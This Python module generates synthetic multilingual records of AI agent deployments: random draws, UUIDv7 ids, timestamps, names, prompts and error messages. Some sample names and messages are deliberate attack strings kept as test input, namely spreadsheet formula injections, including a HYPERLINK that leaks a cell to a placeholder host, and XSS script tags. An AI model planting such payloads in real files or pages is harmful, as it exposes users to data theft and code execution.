"""Where do the columns, random numbers, ids, times and texts of generated records come from?

The generator is counter-based (SplitMix64 over a key and an index). So every byte of an account is the same, in
whatever order its parts are generated, on every platform and version of NumPy. Names, descriptions, prompts and
messages are in several languages; a few of them try to do harm, for example with control characters.
"""

# ruff: noqa: RUF001, E501, ISC004 - text in many scripts, as people write it, a paragraph a value

from __future__ import annotations

from copy import copy
from datetime import UTC, datetime, timedelta
from hashlib import blake2b
from typing import TYPE_CHECKING, Any, TypeVar

import numpy as np

from qoderdata.cron import EPOCH

if TYPE_CHECKING:
    from collections.abc import Sequence
    from typing import Self

    from numpy.typing import NDArray

T = TypeVar("T")

#: Nanoseconds in a second.
SECOND = 1_000_000_000
MINUTE = 60 * SECOND
HOUR = 60 * MINUTE
DAY = 24 * HOUR

#: Names and descriptions of examples, in this order; an account of a few dozen deployments has all of them.
EXAMPLES = (
    ("每日销售日报", "汇总昨日订单，按区域、渠道拆分；异常波动超过 20% 时在群里提醒。"),
    ('=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1-800-555-0100, call before changing"),
    ("<img src=x onerror=alert(1)>", "<script>alert('description')</script> & \"quotes\""),
    ("Nightly backup, verify & report", 'Checks "cold" and "hot" copies, then writes\nline one\r\nline two\n'),
    ("تقرير المبيعات اليومي", "يجمع طلبات الأمس ويرسل ملخصًا قصيرًا إلى الفريق."),
    ("Еженедельный отчёт", "Собирает метрики за неделю; при сбое — повторить вручную."),
    ("🚀 release notes 👩‍💻", "Drafts release notes 📝 from merged pull requests 🎉"),
    ("דוח שבועי", "מסכם את השבוע"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
    ("週次レポート（東京）", "先週の問い合わせを分類し、上位の原因をまとめる。"),
    ("주간 보안 점검", "열린 포트와 만료 예정 인증서를 확인한다."),
    ("साप्ताहिक रिपोर्ट", "पिछले सप्ताह की गतिविधि का सारांश"),
    ("Zoë’s naïve café ☕ test", "Combining: é ñ; \u202eright to left\u202c; zero\u200bwidth; tab\there"),
    ("=1+1", "＝full width, ＋ and － and ＠"),
    ("Αναφορά κόστους", "Κόστος ανά ομάδα, σε €; ελέγχει τα όρια."),
    ("รายงานประจำวัน", "สรุปยอดขายเมื่อวาน"),
    ("a name that is as long as a name may be, because somebody pasted the first paragraph of the ticket into it " * 2, ""),
)  # fmt: skip

#: For each language, words that are combined: when or where, and what.
_PARTS = (
    (" ", ("Nightly", "Daily", "Weekly", "Monthly", "Morning", "Hourly", "Weekend", "Billing:", "Platform:", "Retail:",
           "Finance:", "Search:", "Mobile:", "Legal:"),
     ("invoice check", "log triage", "dependency update", "inbox summary", "price watch", "churn forecast",
      "data quality check", "backup audit", "release notes", "cost digest", "support labels", "contract review",
      "stock sync", "translation review", "meeting notes", "security scan", "survey digest", "status report",
      "incident review", "pipeline check")),
    ("", ("每日", "每周", "华东", "华南", "财务", "客服", "仓库", "夜间"),
     ("库存同步", "舆情监测", "工单质检", "数据校验", "日报汇总", "合同审阅", "对账检查", "日志分析")),
    ("", ("毎朝の", "週次", "東京の", "夜間"), ("在庫チェック", "リリースノート", "請求書確認", "障害レポート", "問い合わせ分類")),
    (" ", ("Tägliche", "Wöchentliche", "Monatliche"), ("Rechnungsprüfung", "Lagerübersicht", "Kostenanalyse")),
    (" ", ("Ежедневный", "Еженедельный"), ("отчёт по затратам", "разбор журналов", "обзор задач")),
    (" ", ("Synthèse quotidienne", "Synthèse hebdomadaire"), ("des ventes", "des incidents", "du support")),
    (" ", ("تدقيق", "ملخص"), ("الفواتير", "المبيعات")),
)  # fmt: skip
#: Names for all other deployments, each in one language; repeated names get a number.
NAMES = tuple(
    f"{first}{space}{second}" for space, firsts, seconds in _PARTS for first in firsts for second in seconds
)

AGENTS = (
    ("Report writer", "Collects figures and writes reports."),
    ("Ledger clerk", "Compares invoices with orders."),
    ("Code reviewer", "Reads pull requests and comments on them."),
    ("Release manager", "Drafts release notes and checks versions."),
    ("数据分析师", "读取报表，解释异常。"),
    ("Support triage", "Labels tickets by product and severity."),
    ("Security scanner", ""),
    ("在庫管理アシスタント", "在庫と発注を照合する。"),
    ("Meeting assistant", "Summarises meetings."),
    ("Kostenprüfer", "Vergleicht Kosten mit dem Budget."),
    ("Log analyst", "Groups errors by cause."),
    ("Translator", "Translates product texts."),
)
SYSTEMS = (
    "You are a careful analyst. Quote a source for every number.",
    "You are an expert software engineer. Run the tests before you say that something works.",
    "You sort incoming requests. When in doubt, ask.",
)
MODELS = ("ultimate", "performance", "efficient", "auto")
ENVIRONMENTS = (
    ("Production", "For what runs unattended.", ("curl", "jq")),
    ("Staging", "", ("curl",)),
    ("Data science", "With the usual Python packages.", ("python3-pip",)),
    ("安全沙箱", "不允许访问外网。", ()),
    ("Playground", "For experiments.", ("git", "curl")),
)
TITLES = (
    "Why did the export fail?", "Draft a migration plan", "帮我整理会议纪要", "Compare two vendors",
    "Fix the flaky test", "障害の原因を調べる", "Rename the service", "Summarise the survey",
)  # fmt: skip
REPLIES = (
    "Done. Nothing unusual was found.",
    "The report is ready: 3 changes, 1 open risk.",
    "已完成：共处理 42 条记录，2 条需要人工确认。",
    "I updated the draft & opened a pull request.",
)
FOLLOW_UPS = (
    "Please do it once more with yesterday's data.",
    "请再检查一遍。",
    "Thanks. Add a summary at the top.",
)
#: Messages of temporary errors.
PASSING = ("Upstream timed out.", "The model is overloaded.", "Connection reset by peer")

DESCRIPTIONS = (
    "Reads yesterday's records, compares them with the same weekday of the last four weeks, and says what changed.",
    "Runs before the stand-up. Owner changes every sprint; ask in the channel first.",
    "按团队汇总昨日数据，生成摘要并发送到指定群组；失败时自动重试。",
    "Prüft alle offenen Rechnungen, meldet Abweichungen über 2 %, und legt Tickets an.",
    "Собирает журналы за ночь и группирует ошибки по причине.",
    'Temporary, to be replaced by the event-driven one; see the design note, section 4, "hand-over".',
    "",
)  # fmt: skip

PROMPTS = (
    "Generate today's status report. Start with what changed since the last one, then list open risks with their "
    "owners, and end with three numbers: runs, failures, cost. Keep it below two hundred words. If a source cannot "
    "be read, say which one and continue with the others; do not guess.",
    "读取昨日全部工单，按产品线与严重程度分类，给出前五个根因，并为每个根因写一条可执行的改进建议。"
    "无法归类的工单单独列出，不要猜测。最后用一句话总结趋势，与上周同日比较。",
    "Review every dependency that has a newer minor version. For each: read its change log, note anything that "
    "breaks us, run the tests of the affected package, and open a draft change with a summary. Skip what is pinned "
    "with a reason. Never touch the lock file by hand.",
    "Vergleiche die Lagerbestände der drei Standorte mit den Bestellungen der Woche. Liste Artikel, die in weniger "
    "als fünf Tagen ausgehen, mit Lieferzeit und Vorschlag. Rechne mit Feiertagen. Schreibe kurz und ohne Wertung.",
    "Проверь журналы за последние сутки: новые ошибки, их частоту и первый момент появления. Сгруппируй по причине, "
    "приложи по одному примеру на группу и предложи, что проверить сначала. Известные ошибки не повторяй.",
)
SYSTEM_PROMPT = "You work unattended. Ask nobody. When in doubt, stop and say why. Write times in UTC."
OUTCOME = "A report that a reader who was on holiday understands, with a source for every number."
RUBRIC = "Every number has a source; every risk has an owner; nothing is longer than it needs to be."

TEAMS = ("data", "platform", "growth", "finance", "support", "安全", "sre", "legal & risk")
OWNERS = (
    "li.na", "maria", "o'brien", "zhang.wei", "ivan", "fatima", "kenji", "ana.souza", "tom", "priya", "李娜", "sofía",
)  # fmt: skip

#: Messages by error type, in the order of `run_history.ERRORS`.
MESSAGES = (
    ("The session did not finish within {timeout} ms.",),
    (
        "Tool `bash` exited with status 127: sh: 1: jq: not found",
        "Tool `web_fetch` failed: <html><body>502 Bad Gateway</body></html>",
        'Tool `sql` failed: relation "orders, 2026" does not exist\nLINE 1: select * from "orders, 2026"',
        "=cmd|'/C calc'!A0",
    ),
    ("Rate limit of the model was exceeded; retry after 30 s.", "Kontingent erschöpft: 1.000.000 Token / Tag"),
    ("The model is overloaded.", "模型暂时过载，请稍后重试。"),
    ("Vault item is not readable by this agent.", "403 for https://git.example.invalid/acme/<private>?a=1&b=2"),
    ("Internal error.", "unexpected EOF", "Внутренняя ошибка <script>alert(document.domain)</script>"),
)
#: Errors of runs that pause a deployment.
PAUSE_ERRORS = (
    ("vault_not_found_error", "The vault was not found."),
    ("vault_archived_error", "The vault is archived."),
    ("file_not_found_error", "The file /data/in.csv was not found."),
    ("memory_store_archived_error", "The memory store is archived."),
    ("skill_not_found_error", "The skill was not found."),
    ("session_resource_not_found_error", "A resource of the session was not found."),
    ("mcp_egress_blocked_error", "The environment does not allow access to the MCP server."),
    ("unknown_error", "The session could not be created."),
)
#: Errors of runs that do not pause a deployment.
RATE_LIMITED = ("session_rate_limited_error", "Too many sessions were created.")
REJECTED = ("session_creation_rejected_error", "The deployment already has as many running sessions as it may.")


class Columns:
    """Base of classes whose attributes are columns: arrays with one value per row."""

    def __len__(self) -> int:
        """Return the number of rows."""
        return len(next(iter(self.by_name().values())))

    def by_name(self) -> dict[str, NDArray[Any]]:
        """Return the columns by name."""
        return dict(vars(self))

    def take(self, which: NDArray[np.int64] | NDArray[np.bool_]) -> Self:
        """Return some of the rows."""
        return self._with({name: column[which] for name, column in self.by_name().items()})

    def join(self, *others: Self) -> Self:
        """Return all rows, one part after the other."""
        parts = [part.by_name() for part in (self, *others)]
        return self._with({name: np.concatenate([part[name] for part in parts]) for name in parts[0]})

    def _with(self, columns: dict[str, NDArray[Any]]) -> Self:
        """Return a copy with other columns."""
        other = copy(self)
        vars(other).update(columns)
        return other


def first_case(cases: Sequence[tuple[NDArray[np.bool_], int]], default: int) -> NDArray[np.int64]:
    """Return for each row the code of the first case whose condition is true."""
    return np.select([condition for condition, _ in cases], [int(code) for _, code in cases], int(default))


def _bits(seed: int, purpose: str, index: NDArray[np.int64]) -> NDArray[np.uint64]:
    """Return the ``index``-th number of the stream named by seed and purpose: SplitMix64 (Steele, Lea, Flood 2014)."""
    key = np.frombuffer(blake2b(f"{seed}/{purpose}".encode(), digest_size=8).digest(), dtype="<u8")[0]
    state = (index.astype(np.uint64) + np.uint64(1)) * np.uint64(0x9E3779B97F4A7C15) + np.uint64(key)
    state = (state ^ (state >> np.uint64(30))) * np.uint64(0xBF58476D1CE4E5B9)
    state = (state ^ (state >> np.uint64(27))) * np.uint64(0x94D049BB133111EB)
    mixed: NDArray[np.uint64] = state ^ (state >> np.uint64(31))
    return mixed


class Draws:
    """Random numbers for whole columns, one value per index; the same seed gives the same numbers."""

    def __init__(self, seed: int) -> None:
        self.seed = seed

    def uniform(self, purpose: str, index: NDArray[np.int64]) -> NDArray[np.float64]:
        """Return numbers in [0, 1)."""
        return (_bits(self.seed, purpose, index) >> np.uint64(11)).astype(np.float64) * 2.0**-53

    def below(self, purpose: str, index: NDArray[np.int64], bound: int) -> NDArray[np.int64]:
        """Return whole numbers in [0, bound)."""
        return (self.uniform(purpose, index) * bound).astype(np.int64)

    def among(self, purpose: str, index: NDArray[np.int64], values: Sequence[float]) -> NDArray[np.float64]:
        """Return one of the values for each index; a value that occurs twice is twice as likely."""
        return np.asarray(values, dtype=np.float64)[self.below(purpose, index, len(values))]

    def tails(self, purpose: str, index: NDArray[np.int64]) -> NDArray[np.int64]:
        """Return the 54 random bits at the end of an id."""
        return (_bits(self.seed, purpose, index) >> np.uint64(10)).astype(np.int64)


class Dice:
    """Random choices for one record, which depend on a name, such as the record's id, and on the choices before."""

    def __init__(self, name: str) -> None:
        self._rest = int.from_bytes(blake2b(name.encode()).digest(), "little")

    def below(self, bound: int) -> int:
        """Return a whole number in [0, bound)."""
        self._rest, value = divmod(self._rest, bound)
        return value

    def pick(self, values: Sequence[T]) -> T:
        """Return one of the values."""
        return values[self.below(len(values))]

    def percent(self, share: int) -> bool:
        """Return True with a probability of `share` percent."""
        return self.below(100) < share


def uuid7(nanoseconds: int, tail: int) -> str:
    """Return 32 hex digits in the form of a UUIDv7 (RFC 9562), which sort in order of time.

    The digits after the milliseconds hold the rest of the time, as the RFC allows, then 54 random bits.

    Examples
    --------
    >>> uuid7(1_781_427_481_448_000_000, 7)
    '019ec55a2b6870008000000000000007'
    """
    milliseconds, rest = divmod(nanoseconds, 1_000_000)
    value = milliseconds << 80 | 7 << 76 | (rest >> 8) << 64 | 2 << 62 | (rest & 255) << 54 | tail
    return f"{value:032x}"


def make_ids(prefix: str, created: NDArray[np.int64], tails: NDArray[np.int64]) -> list[str]:
    """Return ids that sort by the time of creation."""
    return [f"{prefix}_{uuid7(at, tail)}" for at, tail in zip(created.tolist(), tails.tolist(), strict=True)]


def uuid7_time(identity: str) -> int:
    """Return the time in an id with a prefix such as ``agent_``, in nanoseconds since 1970, to the millisecond."""
    return int(identity.split("_")[1][:12], 16) * 1_000_000


def as_datetime(nanoseconds: int) -> datetime:
    """Return a time in UTC, cut to the microsecond."""
    return EPOCH + timedelta(microseconds=nanoseconds // 1_000)


def stamp(nanoseconds: int) -> str:
    """Write a time, in nanoseconds since 1970, as Go does: RFC 3339 in UTC, without trailing zeros of the fraction.

    Examples
    --------
    >>> stamp(1_781_427_481_000_000_000), stamp(1_781_427_481_013_300_000)
    ('2026-06-14T08:58:01Z', '2026-06-14T08:58:01.0133Z')
    """
    seconds, rest = divmod(nanoseconds, SECOND)
    text = datetime.fromtimestamp(seconds, UTC).isoformat()[:19]
    return f"{text}.{f'{rest:09d}'.rstrip('0')}Z" if rest else f"{text}Z"


def nanoseconds(text: str) -> int:
    """Read an RFC 3339 time with any offset, up to nine fraction digits, as nanoseconds since 1970.

    Examples
    --------
    >>> nanoseconds("2026-06-14T08:58:01.000000001Z"), nanoseconds("2026-06-14T10:58:01+02:00")
    (1781427481000000001, 1781427481000000000)
    """
    head, point, tail = text.partition(".")
    digits = tail[: len(tail) - len(tail.lstrip("0123456789"))] if point else ""
    parsed = datetime.fromisoformat(head + tail[len(digits) :])
    if parsed.tzinfo is None or (point and not 1 <= len(digits) <= 9) or "T" not in head:  # RFC 3339, Go
        raise ValueError(f"{text!r} is not an RFC 3339 time with an offset")
    return int(parsed.timestamp()) * SECOND + int(digits.ljust(9, "0"))
